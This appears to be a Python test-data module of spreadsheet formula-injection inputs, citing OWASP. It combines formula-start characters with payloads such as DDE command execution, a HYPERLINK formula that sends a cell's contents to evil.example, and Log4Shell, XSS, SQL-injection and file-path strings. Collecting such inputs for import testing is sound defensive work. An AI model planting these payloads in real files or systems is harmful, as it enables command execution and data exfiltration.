"""Texts that a spreadsheet may take for a formula, a link or a command. BAD_INPUT 4.1, OWASP."""

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "'",
    '"',
    "{=",
    " =",
    "\xa0=",
)
PAYLOADS = (
    "cmd|'/c calc'!A1",
    'HYPERLINK("http://evil.example/?x="&A1,"Click")',
    'WEBSERVICE("http://evil.example")',
    "1+1",
    'DDE("cmd";"/C calc";"x")',
    "[http://evil.example/a.xlsx]Sheet1!A1",
)
PLAIN = (
    "http://evil.example",
    "https://evil.example/path?q=1",
    "mailto:victim@example.com",
    "ftp://evil.example",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "internal:Sheet1!A1",
    "external:other.xlsx",
    "#REF!",
    '</t></is></c><c r="Z9"><f>1+1</f></c>',
    "]]><f>1+1</f>",
    "&#x3D;1+1",
    "_x003D_1+1",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example}",
    "{0.__class__}",
    "%(x)s %s",
    "'; DROP TABLE Sales; --",
)
# Look-alikes of one another are asked about on import: every start has an ending of its own.
TEXTS = (
    *(f"{start}{payload} {at}" for at, start in enumerate(STARTS) for payload in PAYLOADS),
    *PLAIN,
)
